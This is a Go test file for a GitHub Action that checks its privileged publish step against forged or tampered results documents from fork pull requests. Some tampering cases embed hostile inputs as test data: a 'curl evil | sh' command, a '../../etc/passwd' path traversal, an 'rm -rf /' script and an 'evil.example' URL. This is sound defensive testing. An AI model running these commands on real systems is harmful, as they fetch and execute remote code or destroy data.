package bot

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/storygate/storygate/internal/diag"
	"github.com/storygate/storygate/internal/gate"
	"github.com/storygate/storygate/internal/github/githubtest"
	"github.com/storygate/storygate/internal/testrepo"
)

// forkPullRequest makes the recorded pull_request come from a fork.
func forkPullRequest(p map[string]any) {
	head := p["pull_request"].(map[string]any)["head"].(map[string]any)
	head["repo"].(map[string]any)["full_name"] = "someone/Hello-World"
}

// uploadingRun is the id of the run in the recorded workflow_run payload:
// the unprivileged run whose artifact publish downloads.
const uploadingRun = "1589141559"

// handlerRun is the recorded run as GitHub's API reports it: the gate
// workflow, dispatched on the default branch (at the base, a commit of the
// trusted checkout) by GITHUB_TOKEN's identity, as dispatchGate starts it.
func handlerRun(h *harness, prHead string) githubtest.WorkflowRun {
	id, _ := strconv.ParseInt(uploadingRun, 10, 64)
	return githubtest.WorkflowRun{ID: id, Repo: prRepo, Event: "workflow_dispatch", HeadBranch: "main", HeadSHA: h.base,
		Path: ".github/workflows/storygate.yml", Actor: githubtest.Bot, DisplayTitle: gate.DispatchRunName(prNumber, prHead)}
}

// reportOnlyHalf runs the unprivileged half of the pair, as the run the
// recorded workflow_run event names.
func reportOnlyHalf(t *testing.T, h *harness) {
	t.Helper()
	h.env["GITHUB_RUN_ID"] = uploadingRun
	h.event("pull_request", "pull_request.opened", forkPullRequest)
	code := h.action()
	if code != failed {
		t.Fatalf("report-only got %s, want 1\n%s", code, h.stderr.String())
	}
	if n := len(h.fake.Calls()); n != 0 {
		t.Fatalf("report-only made %d API calls", n)
	}
	if !strings.Contains(h.stdout.String(), "::error file="+h.pkg+"stories/STORY-003.md") || !strings.Contains(h.stdout.String(), "::notice file="+h.pkg+"stories/STORY-002.md") {
		t.Errorf("report-only must annotate through workflow commands:\n%s", h.stdout.String())
	}
	if summary, err := os.ReadFile(h.summary); err != nil || !strings.Contains(string(summary), "STORY-003") {
		t.Errorf("step summary: %v %q", err, summary)
	}
}

// publishHalf switches to the privileged workflow_run half; edits adjust
// the recorded event (a run of the gate workflow the command handler
// dispatched on the default branch, which GitHub reports as handlerRun).
func publishHalf(t *testing.T, h *harness, prHead string, edits ...githubtest.Edit) {
	t.Helper()
	h.fake.AddPullRequest(prRepo, githubtest.PullRequest{Number: prNumber, HeadSHA: prHead, BaseSHA: h.base, HeadRepo: "someone/Hello-World"})
	h.fake.AddWorkflowRun(handlerRun(h, prHead))
	h.event("workflow_run", "workflow_run.completed", edits...)
	if err := os.WriteFile(h.summary, nil, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestForkFlowReportOnlyThenPublish(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	if code := h.publish(h.results); code != passed {
		t.Fatalf("publish got %s\n%s", code, h.stderr.String())
	}
	runs := h.fake.CheckRuns()
	if len(runs) != 3 || runs[0].HeadSHA != h.head || runs[0].Conclusion != "failure" || len(runs[0].Annotations) == 0 {
		t.Errorf("published check runs: %+v", runs)
	}
	if !strings.HasSuffix(runs[0].DetailsURL, "/actions/runs/1589141559") {
		t.Errorf("details URL %q must come from the workflow_run event", runs[0].DetailsURL)
	}
	if comments := h.fake.Comments(prRepo, prNumber); len(comments) != 1 {
		t.Errorf("want one comment, got %d", len(comments))
	}
	for _, r := range runs[1:] {
		if !strings.HasPrefix(r.Title, "from the unprivileged run, not recomputed") {
			t.Errorf("%s must say it was not recomputed: %q", r.Name, r.Title)
		}
	}
	if strings.Contains(runs[0].Title, "not recomputed") {
		t.Errorf("the stories gate is recomputed: %q", runs[0].Title)
	}
	if code := h.publish(h.results); code != passed || len(h.fake.Comments(prRepo, prNumber)) != 1 {
		t.Errorf("publishing twice must keep one comment (got %s)", code)
	}
}

func TestPublishRefusesAPullRequestAtAnotherCommit(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, strings.Repeat("d", 40))
	code := h.publish(h.results)
	if code != usageFailure || !strings.Contains(h.stderr.String(), "refusing to publish") || len(h.fake.CheckRuns()) != 0 || len(h.fake.Comments(prRepo, prNumber)) != 0 {
		t.Errorf("got %s, %d runs: %s", code, len(h.fake.CheckRuns()), h.stderr.String())
	}
}

func TestPublishRefusesADocumentForAnotherCommit(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	h.head = strings.Repeat("f", 40) // the workflow run is about another commit
	h.event("workflow_run", "workflow_run.completed", pullRequestRun)
	if code := h.publish(h.results); code != usageFailure || len(h.fake.Calls()) != 0 {
		t.Errorf("got %s, %d calls", code, len(h.fake.Calls()))
	}
}

// pullRequestRun makes the recorded workflow_run a pull_request run, whose
// head commit is the pull request's.
func pullRequestRun(p map[string]any) {
	p["workflow_run"].(map[string]any)["event"] = "pull_request"
}

// rewrite edits the results document as code in the unprivileged run can.
func rewrite(t *testing.T, h *harness, edit func(*gate.Results)) {
	t.Helper()
	res := h.document()
	edit(res)
	res.Finish()
	if err := res.WriteFile(h.results); err != nil {
		t.Fatal(err)
	}
}

// TestPublishRecomputesAForgedStoriesVerdict: PR code rewrites the
// document to say the stories gate passed; publish recomputes it from the
// head read as data and posts the failure. The control publishes the
// honest document with the same result.
func TestPublishRecomputesAForgedStoriesVerdict(t *testing.T) {
	t.Parallel()
	for _, forged := range []bool{true, false} {
		t.Run(fmt.Sprintf("forged=%v", forged), func(t *testing.T) { publishForgedOrHonest(t, forged) })
	}
}

func publishForgedOrHonest(t *testing.T, forged bool) {
	{
		h := newHarness(t)
		reportOnlyHalf(t, h)
		if forged {
			rewrite(t, h, func(res *gate.Results) {
				for i := range res.Gates {
					if res.Gates[i].Name == gate.Stories {
						res.Gates[i].Conclusion, res.Gates[i].Title, res.Gates[i].Diagnostics = gate.Success, "all good", []diag.Diagnostic{}
					}
				}
			})
			if g, _ := h.document().Gate(gate.Stories); g.Conclusion != gate.Success {
				t.Fatalf("the forgery did not apply: %+v", g)
			}
		}
		publishHalf(t, h, h.head)
		if code := h.publish(h.results); code != passed {
			t.Fatalf("forged=%v: publish got %s\n%s", forged, code, h.stderr.String())
		}
		runs := h.checkRuns()
		if runs["storygate / stories"] != "failure" {
			t.Errorf("forged=%v: stories published as %q, want the recomputed failure", forged, runs["storygate / stories"])
		}
		if runs := h.fake.CheckRuns(); len(runs[0].Annotations) == 0 || !strings.Contains(runs[0].Text, "STORY-003") {
			t.Errorf("forged=%v: the recomputed findings are missing: %+v", forged, runs[0])
		}
	}
}

// TestPublishBindsTheDocumentToItsRun: a document from another run, for
// another repository, or for no pull request is refused before anything
// is posted; a document that drops an executed gate fails that gate.
func TestPublishBindsTheDocumentToItsRun(t *testing.T) {
	t.Parallel()
	for name, edit := range map[string]func(*gate.Results){
		"another run":       func(res *gate.Results) { res.Event.RunURL = "https://github.com/" + prRepo + "/actions/runs/42" },
		"a foreign run URL": func(res *gate.Results) { res.Event.RunURL = "https://evil.example/actions/runs/" + uploadingRun },
		"a signed run id": func(res *gate.Results) {
			res.Event.RunURL = "https://github.com/" + prRepo + "/actions/runs/+" + uploadingRun
		},
		"a padded run id": func(res *gate.Results) {
			res.Event.RunURL = "https://github.com/" + prRepo + "/actions/runs/0" + uploadingRun
		},
		"a run id at the end of another path": func(res *gate.Results) {
			res.Event.RunURL = "https://github.com/" + prRepo + "/actions/runs/42/attempts/" + uploadingRun
		},
		"no run":             func(res *gate.Results) { res.Event.RunURL = "" },
		"another repository": func(res *gate.Results) { res.Event.Repository = "someone/Hello-World" },
		"no pull request":    func(res *gate.Results) { res.Event.PullRequest = 0 },
	} {
		t.Run(name, func(t *testing.T) {
			h := newHarness(t)
			reportOnlyHalf(t, h)
			rewrite(t, h, edit)
			publishHalf(t, h, h.head)
			if code := h.publish(h.results); code != usageFailure || len(h.fake.CheckRuns()) != 0 || !strings.Contains(h.stderr.String(), "refusing to publish") {
				t.Errorf("got %s, %d check runs: %s", code, len(h.fake.CheckRuns()), h.stderr.String())
			}
		})
	}
}

// TestPublishFailsAnExecutedGateTheDocumentDrops: a verify gate missing from
// the document is not passed on as absent.
func TestPublishFailsAnExecutedGateTheDocumentDrops(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	rewrite(t, h, func(res *gate.Results) {
		kept := res.Gates[:0]
		for _, g := range res.Gates {
			if g.Name != gate.Verify {
				kept = append(kept, g)
			}
		}
		res.Gates = kept
	})
	publishHalf(t, h, h.head)
	if code := h.publish(h.results); code != passed || h.checkRuns()["storygate / verify"] != "failure" {
		t.Errorf("a dropped verify gate: got %s, check runs %v", code, h.checkRuns())
	}
}

// TestPublishNeedsTheHeadAsData: without the pull request's head in the
// trusted checkout nothing can be recomputed, and nothing is posted.
func TestPublishNeedsTheHeadAsData(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	h.env["GITHUB_WORKSPACE"] = testrepo.New(t).Root
	if code := h.publish(h.results); code != usageFailure || len(h.fake.CheckRuns()) != 0 || !strings.Contains(h.stderr.String(), "fetch it as data") {
		t.Errorf("got %s: %s", code, h.stderr.String())
	}
}

func TestPublishValidatesTheDocumentAsData(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	data, _ := os.ReadFile(h.results)
	for name, tampered := range map[string]string{
		"unknown field":     strings.Replace(string(data), `"version": 1,`, `"version": 1, "command": "curl evil | sh",`, 1),
		"forged conclusion": strings.Replace(string(data), `"conclusion": "failure",`+"\n  \"counts\"", `"conclusion": "success",`+"\n  \"counts\"", 1),
		"escaping path":     strings.Replace(string(data), `"file": "stories/STORY-003.md"`, `"file": "../../etc/passwd"`, 1),
		"not JSON":          "#!/bin/sh\nrm -rf /\n",
	} {
		if tampered == string(data) {
			t.Fatalf("%s: the edit did not apply", name)
		}
		path := h.tmp + "/tampered.json"
		if err := os.WriteFile(path, []byte(tampered), 0o644); err != nil {
			t.Fatal(err)
		}
		if code := h.publish(path); code != usageFailure || len(h.fake.Calls()) != 0 {
			t.Errorf("%s: got %s, %d calls: %s", name, code, len(h.fake.Calls()), h.stderr.String())
		}
	}
}

func TestActionExplicitReportOnlyWritesNothing(t *testing.T) {
	h := newHarness(t)
	h.event("pull_request", "pull_request.opened")
	if code := h.action(func(o *ActionOptions) { o.ReportOnly = "true" }); code != failed || len(h.fake.Calls()) != 0 {
		t.Errorf("got %s, %d calls", code, len(h.fake.Calls()))
	}
}

func TestActionFallsBackToReportOnlyOnAReadOnlyToken(t *testing.T) {
	h := newHarness(t)
	h.event("pull_request", "pull_request.opened")
	h.fake.FailNext(1, 403, nil, "Resource not accessible by integration")
	code := h.action()
	if code != failed || !strings.Contains(h.stdout.String(), "::warning title=storygate::") || !strings.Contains(h.stdout.String(), "::error file=") {
		t.Errorf("got %s, stdout:\n%s", code, h.stdout.String())
	}
}

// TestPublishAMergeQueueRun: a merge queue's document names no pull
// request; publish recomputes it against its base once that base is known
// to be merged content, and refuses a base that is not.
func TestPublishAMergeQueueRun(t *testing.T) {
	t.Parallel()
	for name, base := range map[string]func(h *harness) string{
		"honest":           func(h *harness) string { return h.base },
		"base not on main": func(h *harness) string { return strings.Repeat("b", 40) },
	} {
		t.Run(name, func(t *testing.T) {
			h := newHarness(t)
			h.env["GITHUB_RUN_ID"] = uploadingRun
			h.event("merge_group", "merge_group.checks_requested")
			if code := h.action(func(o *ActionOptions) { o.ReportOnly = "true" }); code != failed {
				t.Fatalf("report-only got %s\n%s", code, h.stderr.String())
			}
			rewrite(t, h, func(res *gate.Results) { res.Event.Repository, res.Event.BaseSHA = prRepo, base(h) })
			h.event("workflow_run", "workflow_run.completed", func(p map[string]any) {
				p["workflow_run"].(map[string]any)["event"] = "merge_group"
			})
			code := h.publish(h.results)
			if name == "honest" && (code != passed || h.checkRuns()["storygate / stories"] != "failure") {
				t.Errorf("got %s, check runs %v\n%s", code, h.checkRuns(), h.stderr.String())
			}
			if name != "honest" && (code != usageFailure || len(h.fake.CheckRuns()) != 0) {
				t.Errorf("got %s, %d check runs", code, len(h.fake.CheckRuns()))
			}
		})
	}
}
